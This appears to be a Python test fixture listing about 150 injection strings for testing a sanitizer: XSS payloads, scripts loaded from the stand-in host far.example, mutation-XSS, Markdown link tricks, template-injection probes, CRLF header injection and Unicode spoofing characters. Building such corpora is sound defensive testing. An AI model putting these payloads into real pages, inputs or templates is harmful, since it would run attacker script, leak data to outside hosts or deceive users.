"""A hundred and fifty texts that want to be more than text."""

from __future__ import annotations

from itertools import product

CALL = "window.__fired=1"
FAR = "//far.example"
"""A host that no page of ours may ask."""

_EVENTS = (
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee")
HANDLERS = [f"<{tag} {event}={CALL}>" for tag, event in list(product(_TAGS, _EVENTS))[::2]]  # 25

SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=http:{FAR}/a.js></SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<script type=module>import 'http:{FAR}/m.js'</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<template><script>{CALL}</script></template>",
]

ATTRIBUTES = [
    f'" onmouseover="{CALL}',
    f"' onfocus='{CALL}' autofocus='",
    f'" autofocus onfocus={CALL} x="',
    f'x" style="background:url(http:{FAR}/s)',
    f'"/><base href="http:{FAR}/">',
    f'" formaction="http:{FAR}" x="',
    f'"><form action="http:{FAR}"><button>Approve</button></form>',
    f'"><input type=image src="http:{FAR}/i">',
    "`onmouseover=window.__fired=1`",
    "' || window.__fired=1 || '",
    '\\"><img src=x onerror=window.__fired=1>',
    "&quot;&gt;&lt;img src=x onerror=window.__fired=1&gt;",
    "&#60;script&#62;window.__fired=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.__fired=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__fired=1\\u003c/script\\u003e",
]

ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f" javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"http:{FAR}/tracker.gif",
    f"<a href=javascript:{CALL}>Approve</a>",
    f"<a href='&#106;avascript:{CALL}'>x</a>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data=data:text/html,<script>{CALL}</script>></object>",
    f"<embed src=http:{FAR}/e.swf>",
    f"<link rel=stylesheet href=http:{FAR}/s.css>",
    f"<link rel=dns-prefetch href={FAR}>",
    f"<meta http-equiv=refresh content=0;url=http:{FAR}>",
    f"<base href=http:{FAR}/>",
    f"<img src=http:{FAR}/p.png>",
    f"<audio src=http:{FAR}/a.ogg autoplay>",
    f"<a ping=http:{FAR} href=/forget>x</a>",
    f"<area href=javascript:{CALL}>",
    "<button form=x formaction=/forget>Forget</button>",
    f"<use href=http:{FAR}/x.svg#a>",
    f"<img srcset='http:{FAR}/2x.png 2x'>",
]

DRAWINGS = [
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=http:{FAR}/s.js /></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{CALL}></svg>",
    f"<svg><foreignObject><iframe src=javascript:{CALL}></iframe></foreignObject></svg>",
    f"<svg><style>@import 'http:{FAR}/s.css';</style></svg>",
    f"<svg><image href=http:{FAR}/i.png /></svg>",
    f"<math href=javascript:{CALL}>x</math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<svg onload={CALL}//",
    f"<svg/onload={CALL}>",
    f"<svg><desc><![CDATA[</desc><script>{CALL}</script>]]></svg>",
]

MARKDOWN = [
    f"[approve](javascript:{CALL})",
    f"[approve](  javascript:{CALL})",
    f'[x](JAVASCRIPT:{CALL} "t")',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](vbscript:{CALL})",
    f"[x](java&#x0A;script:{CALL})",
    f"<javascript:{CALL}>",
    f"![i](http:{FAR}/pixel.png)",
    f"![i](javascript:{CALL})",
    f"[![i](http:{FAR}/b.png)](http:{FAR})",
    f"![x][far]\n\n[far]: http:{FAR}/ref.png",
    f"[x](http:{FAR} '\"onmouseover={CALL}')",
    f'[a](http://a.example"onclick={CALL})',
    f"**<img src=x onerror={CALL}>**",
    f"`<img src=x onerror={CALL}>`",
    f"```html\n<script>{CALL}</script>\n```",
    f'```{CALL}"><script>\nx\n```',
    f"# <script>{CALL}</script>",
    f"> <svg onload={CALL}>",
    f"| a | <b onclick={CALL}>b</b> |\n| - | - |\n| c | d |",
    f"- <seq=1, source=user> <script>{CALL}</script>",
    "---\nid: d1\ntitle: Fake\n---\n# Fake",
    "</bdi></q></blockquote></main><h1>Approved and applied.</h1>",
    "<!-- --!><img src=x onerror=window.__fired=1> -->",
    "\n\n    <script>window.__fired=1</script>",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__fired=1')()}}",
    "%(mark)s {mark} {0.__class__}",
    "{#comment#}{{ mark }}",
]

CHARACTERS = [
    "harmless\u202egnp.exe",
    "\u2066\u2067mirror\u2069\u2069",
    "zero\u200bwidth\u200d\u2060join\ufeff",
    "\u061c\u200e\u200fmarks",
    "tag\U000e0041\U000e0042characters",
    "bell\x07 escape\x1b[31mred\x1b[0m",
    "line\u2028separator\u2029paragraph",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u034f\u0334\u0319\u0324l" * 12,
    "W" * 4000,
    "忆" * 3000,
    "אבג <img src=x onerror=window.__fired=1> دهو",
    "＜script＞window.__fired=1＜/script＞",
    "\u00adsoft\u00adhyphens",
    "😀" * 500,
    "%0d%0aSet-Cookie: a=b\r\nSet-Cookie: c=d",
]

STYLES = [
    f"<style>@import url(http:{FAR}/s.css);</style>",
    f"<p style=background:url(http:{FAR}/b)>x</p>",
    '<div style="position:fixed;inset:0">over all</div>',
    f"</style><script>{CALL}</script>",
    f"expression({CALL})",
]

ALL = [
    *HANDLERS,
    *SCRIPTS,
    *ATTRIBUTES,
    *ADDRESSES,
    *DRAWINGS,
    *MARKDOWN,
    *TEMPLATES,
    *CHARACTERS,
    *STYLES,
]
